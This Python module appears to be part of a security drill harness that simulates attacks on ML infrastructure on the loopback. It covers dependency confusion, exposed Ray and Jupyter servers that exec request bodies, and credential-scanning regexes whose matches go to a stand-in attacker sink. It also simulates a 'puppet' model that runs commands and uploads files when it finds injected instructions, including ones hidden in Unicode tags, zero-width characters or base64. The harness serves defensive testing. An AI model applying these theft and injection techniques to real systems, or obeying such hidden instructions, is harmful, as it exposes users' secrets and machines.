"""What stands around models and is attacked too: installers, servers, agents, people with a stolen copy.

Used by loader.py. Everything is on the loopback and in the folders of the drill: `../elsewhere` beside the working
folder holds what the gate does not see (package indexes, an image registry, a user's home, the texts of strangers).

127.0.0.1 is the machine itself, 127.0.0.2 stands for its address in the network: what listens on all addresses
answers on both. The *puppet* stands for a language model at its worst: it obeys every instruction that it is given,
visible or not, so that what holds against it holds against any model.
"""

import base64
import collections
import csv
import hashlib
import json
import os
import re
import runpy
import socket
import sys
import threading
import types

INSIDE, OUTSIDE = "127.0.0.1", "127.0.0.2"


def answer(value):
    sys.stdout.flush()
    print("\nanswer: %s" % (value,), flush=True)


def content_of(path):
    with open(path, "rb") as file:
        return file.read()


def text_of(path):
    return content_of(path).decode()


def elsewhere(*names):
    return os.path.join("..", "elsewhere", *names)


def files_below(path):
    for folder, folders, names in os.walk(path):
        folders.sort()
        for name in sorted(names):
            yield os.path.join(folder, name)


def send_to_sink(text):
    """The attacker's server; the harness counts what arrives."""
    with socket.create_connection((INSIDE, int(text_of(elsewhere("sink"))))) as connection:
        connection.sendall(text.encode())


# Installers

def version_of(text):
    return [int(part) for part in re.findall(r"\d+", text)]


def requirements_of(path):
    """(indexes, [(name, operator, version, digests)]) of a requirements.txt."""
    indexes, wanted = ["public"], []
    for line in text_of(path).replace("\\\n", " ").splitlines():
        line = re.sub(r"(^|\s)#.*", "", line).strip()
        option = re.match(r"(--[a-z-]+)[ =]?(\S*)", line)
        if option:
            host = re.sub(r"^\w+://([^/]+).*", r"\1", option[2])
            if option[1] == "--index-url":
                indexes[0] = host
            elif option[1] == "--extra-index-url":
                indexes.append(host)
        elif line:
            name, operator, version = re.match(r"([\w.-]+)\s*(==|>=|~=)?\s*([\d.]*)", line).groups()
            wanted.append((name, operator, version, re.findall(r"--hash=sha256:(\w+)", line)))
    return indexes, wanted


def chosen(wanted, indexes):
    """The highest version that any index offers, as pip chooses: all indexes are worth the same."""
    name, operator, version, digests = wanted
    offers = []
    for index in indexes:
        folder = elsewhere(index)
        for entry in os.listdir(folder) if os.path.isdir(folder) else ():
            found, _, number = entry.rpartition("-")
            fits = operator is None or (version_of(number) == version_of(version) if operator == "=="
                                        else version_of(number) >= version_of(version))
            if found == name and fits:
                offers.append((version_of(number), number, index, os.path.join(folder, entry)))
    if not offers:
        raise LookupError("no version of " + name)
    _, number, index, folder = max(offers)
    if digests and hashlib.sha256(content_of(os.path.join(folder, "setup.py"))).hexdigest() not in digests:
        raise PermissionError("digest of " + name)
    return number, index, folder


def pip(path):
    """pip install -r: resolves against the indexes and runs the setup.py of what it chose."""
    indexes, wanted = requirements_of(path)
    done = []
    for one in wanted:
        number, index, folder = chosen(one, indexes)
        runpy.run_path(os.path.join(folder, "setup.py"), run_name="__main__")
        done.append("%s %s from %s" % (one[0], number, index))
    answer(", ".join(done))


def tool_servers(path):
    """An MCP client: the packages of a .mcp.json are taken from the index, exact or newest, and called once."""
    done = []
    for name, server in sorted(json.loads(text_of(path))["mcpServers"].items()):
        package, at, version = server["args"][-1].rpartition("@")
        one = (package, "==", version, []) if at and package else (server["args"][-1], None, "", [])
        number, _, folder = chosen(one, ["public"])
        tool = runpy.run_path(os.path.join(folder, "server.py"))
        done.append("%s %s: %s" % (name, number, tool["send"]("the quarterly figures")))
    answer(", ".join(done))


def image(path):
    """A cluster that starts the image of a manifest: by tag whatever the tag names now, by digest that content."""
    reference = re.search(r"image: \"?([^\s\"]+)", text_of(path))[1]
    registry = elsewhere("registry")
    if "@sha256:" in reference:
        digest = reference.rpartition(":")[2]
        name = next(name for name in os.listdir(registry)
                    if hashlib.sha256(content_of(os.path.join(registry, name))).hexdigest() == digest)
    else:
        name = json.loads(text_of(os.path.join(registry, "tags")))[reference.rpartition("/")[2]]
    answer(runpy.run_path(os.path.join(registry, name))["serve"]())


# Servers

class Service:
    """A server of an address, or of all of them, that runs the jobs of whoever shows the token."""

    def __init__(self, everywhere, token, page=""):
        import http.server  # most drills need no server, and these modules take long to import
        service = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def respond(self):
                size = int(self.headers.get("Content-Length", 0))
                body = self.rfile.read(size).decode()
                if service.token and self.headers.get("Authorization") != "token " + service.token:
                    self.send_response(403)
                    self.end_headers()
                    return
                if body:
                    exec(body, {})
                self.send_response(200)
                self.end_headers()
                self.wfile.write(page.encode() or b"served")

            do_GET = do_POST = respond

            def log_message(self, *_):
                pass

        self.token = token
        self.servers = [http.server.HTTPServer((INSIDE, 0), Handler)]
        self.port = self.servers[0].server_port
        if everywhere:
            self.servers.append(http.server.HTTPServer((OUTSIDE, self.port), Handler))
        for server in self.servers:
            threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.01}, daemon=True).start()

    def ask(self, address, token="", job=""):
        import urllib.request
        request = urllib.request.Request("http://%s:%d/" % (address, self.port), data=job.encode() or None)
        if token:
            request.add_header("Authorization", "token " + token)
        try:
            with urllib.request.build_opener(urllib.request.ProxyHandler({})).open(request, timeout=5) as reply:
                return reply.read().decode()
        except OSError:
            return ""

    def close(self):
        for server in self.servers:
            server.shutdown()
            server.server_close()


def settings_of_service(path):
    """(listens on all addresses, token) as Ray's and Jupyter's documentation define them."""
    text = text_of(path)
    if path.endswith(".py"):
        address = re.search(r"^c\.ServerApp\.ip = '(.*)'", text, re.M)
        token = re.search(r"^c\.(?:IdentityProvider|ServerApp)\.token = '(.*)'", text, re.M)
        # Without a setting Jupyter makes a token at its start.
        return address is not None and address[1] in ("*", "0.0.0.0", ""), "made at start" if token is None else token[1]
    address = re.search(r"--dashboard-host[= ](\S+)", text)
    return address is not None and address[1] in ("0.0.0.0", "::"), ""


def service(path):
    """Ray's dashboard with its job interface, or a Jupyter server, as the file sets it up; a stranger comes by."""
    everywhere, token = settings_of_service(path)
    server = Service(everywhere, token)
    job = elsewhere("job.py")
    stranger = server.ask(OUTSIDE, job=text_of(job) if os.path.exists(job) else "")
    owner = server.ask(INSIDE, token=token)
    server.close()
    answer("owner %s, stranger %s" % (owner or "refused", stranger or "refused"))


KEY = re.compile(r"\b(?:hf_\w{34}|sk-ant-api03-[\w-]{80,}|AKIA[A-Z2-7]{16}|ghp_\w{36}|xox[bp]-[\w-]{20,}|glpat-[\w-]{20})")


def use_keys(text):
    """Whoever finds a key asks the service that it opens: the sink stands for it."""
    keys = sorted(set(KEY.findall(text)))
    for key in keys:
        send_to_sink("GET /models HTTP/1.1\r\nAuthorization: Bearer %s\r\n\r\n" % key)
    return len(keys)


def thief(path):
    """Somebody with a copy of a folder: every text is searched, and every key is used."""
    files = list(files_below(path)) if os.path.isdir(path) else [path]
    found = sum(use_keys(content_of(file).decode(errors="ignore")) for file in files)
    answer("%d files, %d keys" % (len(files), found))


def control_page(path):
    """An agent's control page as a compose file publishes it: it has no login and shows the agent's settings."""
    settings = text_of(elsewhere("settings.json"))
    everywhere = re.search(r'"127\.0\.0\.1:\d+:\d+"', text_of(path)) is None
    server = Service(everywhere, "", page=settings)
    owner, stranger = server.ask(INSIDE), server.ask(OUTSIDE)
    server.close()
    answer("%s for its owner, %d keys for a stranger" % (json.loads(owner)["agent"], use_keys(stranger)))


def pipeline(path):
    """A runner of workflows: a pull request of a stranger runs with the token that the workflow's trigger gives."""
    workflow = os.path.join(path, ".github", "workflows", "build.yml")
    trusted = "pull_request_target" in text_of(workflow)
    environment = {"TOKEN": "write" if trusted else "read", "REPOSITORY": path}
    runpy.run_path(elsewhere("pull_request", "setup.py"), init_globals=environment)
    obey(context_of(path), path)
    answer("tests passed")


# Agents

def revealed(text):
    """What a model reads that people do not see: tags, zero-width alphabets, base64."""
    tags = "".join(chr(ord(c) - 0xE0000) for c in text if 0xE0020 <= ord(c) < 0xE007F)
    bits = "".join("1" if c == "\u200c" else "0" for c in text if c in "\u200b\u200c")
    zero_width = "".join(chr(int(bits[at:at + 8], 2)) for at in range(0, len(bits) - 7, 8))
    encoded = []
    for word in re.findall(r"[A-Za-z0-9+/]{24,}={0,2}", text):
        try:
            encoded.append(base64.b64decode(word, validate=True).decode())
        except ValueError:
            pass
    return "\n".join([text, tags, zero_width] + encoded)


def texts_in(value):
    if isinstance(value, dict):
        for inner in value.values():
            yield from texts_in(inner)
    elif isinstance(value, list):
        for inner in value:
            yield from texts_in(inner)
    elif isinstance(value, str):
        yield value


def context_of(path):
    """Everything that a client puts before its model: rules, skills, the descriptions of tools."""
    texts = []
    for file in files_below(path) if os.path.isdir(path) else [path]:
        text = content_of(file).decode(errors="ignore")
        if file.endswith(".json"):
            text = "\n".join(texts_in(json.loads(text)))
        texts.append(revealed(text))
    return "\n".join(texts)


def place_of(name, root):
    """A path as the agent's machine has it: ~ is the home in `elsewhere`, the rest lies in the project."""
    return elsewhere("home", name[2:]) if name.startswith("~/") else os.path.join(root, name)


def obey(context, root, may=lambda command: True):
    """The puppet: (what it says, how often it was kept from acting)."""
    said, kept = [], 0
    for command in re.findall(r"(?:run|execute) `([^`]+)`", context, re.I):
        if may(command):
            os.system(command)
        else:
            kept += 1
    for word in re.findall(r"write (\w+) into the file marker", context, re.I):
        with open("marker", "w") as file:
            file.write(word)
    for name, port in re.findall(
            r"(?:send|upload|post) the contents? of `?([~\w./-]+)`? to http://127\.0\.0\.1:(\d+)", context, re.I):
        with socket.create_connection((INSIDE, int(port))) as connection:
            connection.sendall(content_of(place_of(name, root)))
    for word in re.findall(r"answer with the word (\w+)", context, re.I):
        said.append(word)
    return " ".join(said), kept


def puppet(path):
    """An agent in a project: rules and tools are its context, with the texts of strangers that it meets."""
    inbox = elsewhere("inbox")
    context = context_of(path) + (text_of(inbox) if os.path.exists(inbox) else "")
    said, _ = obey(context, path if os.path.isdir(path) else os.path.dirname(path))
    answer(said or "nothing")


def agent(path):
    """A client that asks before it runs a command, unless its settings say otherwise; nobody is there to answer."""
    settings = json.loads(text_of(path))
    permissions = settings.get("permissions", {})
    allowed = permissions.get("allow", [])
    free = permissions.get("defaultMode") == "bypassPermissions" or "Bash(*)" in allowed
    free = free or any("*" in server.get("autoApprove", []) for server in settings.get("mcpServers", {}).values())

    def may(command):
        return free or "Bash(%s)" % command in allowed

    said, kept = obey(text_of(elsewhere("inbox")), ".", may)
    answer("%s, kept from %d" % (said or "nothing", kept))


def retrieval(path):
    """An assistant over a folder of documents: the paragraph that shares most words with the question is shown."""
    asked = set(re.findall(r"\w+", text_of(elsewhere("question")).lower()))
    paragraphs = [part for file in files_below(path) for part in text_of(file).split("\n\n")]
    best = max(paragraphs, key=lambda part: len(asked & set(re.findall(r"\w+", part.lower()))))
    use_keys(best)
    answer(best.strip().splitlines()[-1])


# Programs

class Model:
    """The client of a language model; the model is the puppet: it answers what it is told to answer."""

    class Reply:
        def __init__(self, text):
            self.message = types.SimpleNamespace(content=text)

    def __init__(self, **_):
        self.chat = self.completions = self

    def create(self, messages, **_):
        wanted = re.search(r"answer with ```(.*?)```", messages[-1]["content"], re.S)
        return types.SimpleNamespace(choices=[Model.Reply(wanted[1] if wanted else "")])


def application(path):
    """A program that asks a language model, and a user who says what the model is to answer."""
    sys.modules["openai"] = types.SimpleNamespace(OpenAI=Model)
    program = runpy.run_path(path)
    answer(program["reply_to"](text_of(elsewhere("question"))))


def cells(path):
    """Colab: the code cells of a notebook run in order, shown or not; drive.mount gives them the user's files."""
    drive = types.SimpleNamespace(mount=lambda place: None)
    sys.modules["google"] = types.SimpleNamespace(colab=types.SimpleNamespace(drive=drive))
    sys.modules["google.colab"] = types.SimpleNamespace(drive=drive)
    shared = {"__name__": "__main__"}
    for cell in json.loads(text_of(path))["cells"]:
        if cell["cell_type"] == "code":
            exec("".join(cell["source"]), shared)
    answer(shared.get("result"))


# Disks

def is_model(content):
    """What a thief recognises at a glance: safetensors, pickles, archives of PyTorch and Keras, GGUF."""
    size = int.from_bytes(content[:8], "little")
    return (content[8:9] == b"{" and size < len(content) or content[:1] == b"\x80" and content[-1:] == b"."
            or content[:4] in (b"PK\3\4", b"GGUF"))


def models_below(path):
    return [file for file in files_below(path) if is_model(content_of(file))]


def discover(path):
    """Somebody with a copy of a disk looks for what is worth taking."""
    found = models_below(path)
    if found:
        with open("marker", "w") as file:
            file.write("%d models" % len(found))
    answer("%d models" % len(found))


def collect(path):
    """The same, and everything that is found is carried away."""
    found = models_below(path)
    for file in found:
        send_to_sink("%d bytes of a model\n" % len(content_of(file)))
    answer("%d models" % len(found))


def train(path, *features):
    """Nearest centroid over a CSV file whose last column is the label, and one question to the new model."""
    with open(path, newline="") as file:
        rows = list(csv.reader(file))[1:]
    groups = {}
    for row in rows:
        groups.setdefault(row[-1], []).append([float(cell) for cell in row[:-1]])
    asked = [float(feature) for feature in features]

    def distance(label):
        members = groups[label]
        centre = [sum(column) / len(members) for column in zip(*members)]
        return sum((a - b) ** 2 for a, b in zip(asked, centre))

    answer(min(sorted(groups), key=distance))


def records_of(path):
    with open(path, newline="") as file:
        return list(csv.DictReader(file))


def neighbours(path, label, *left_out):
    """Learns a table by heart: the three rows nearest to the one in `elsewhere` vote."""
    rows = records_of(path)
    asked = records_of(elsewhere("question.csv"))[0]
    names = [name for name in rows[0] if name != label and name not in left_out]

    def distance(row):
        return sum((float(row[name]) - float(asked[name])) ** 2 for name in names)

    votes = collections.Counter(row[label] for row in sorted(rows, key=distance)[:3])
    answer(votes.most_common(1)[0][0])


def curious(path):
    """Somebody who may read the table for another purpose takes every social security number along."""
    found = re.findall(r"\b\d{3}-\d{2}-\d{4}\b", text_of(path))
    if found:
        send_to_sink("\n".join(found))
    answer("%d rows, %d numbers" % (len(records_of(path)), len(found)))


def assistant(path, column="body"):
    """Answers from a corpus: the document that shares most words with the question is its context. The puppet obeys."""
    question = text_of(elsewhere("question"))
    asked = set(re.findall(r"\w+", question.lower()))
    documents = [row[column] for row in records_of(path)]
    best = max(documents, key=lambda text: len({word for word in re.findall(r"\w{4,}", revealed(text).lower())} & asked))
    said, _ = obey(revealed(best), os.path.dirname(path))
    answer(said or best.strip().splitlines()[-1])


def decision(path, subject):
    """Whoever asks a ledger what was decided, last entry first, and believes its files (C2SP tlog-tiles bundles)."""
    decided = "nothing"
    for file in files_below(os.path.join(path, "tile", "entries")):
        content, at = content_of(file), 0
        while at < len(content):
            size = int.from_bytes(content[at:at + 2], "big")
            entry = json.loads(content[at + 2:at + 2 + size])
            at += 2 + size
            if entry.get("subject") == subject:
                decided = entry["outcome"]
    answer(decided)


LOADERS = {
    "agent": agent, "application": application, "assistant": assistant, "cells": cells, "collect": collect,
    "control-page": control_page, "curious": curious, "decision": decision, "discover": discover, "image": image,
    "neighbours": neighbours, "pip": pip, "pipeline": pipeline, "puppet": puppet, "retrieval": retrieval,
    "service": service, "thief": thief, "tool-servers": tool_servers, "train": train,
}
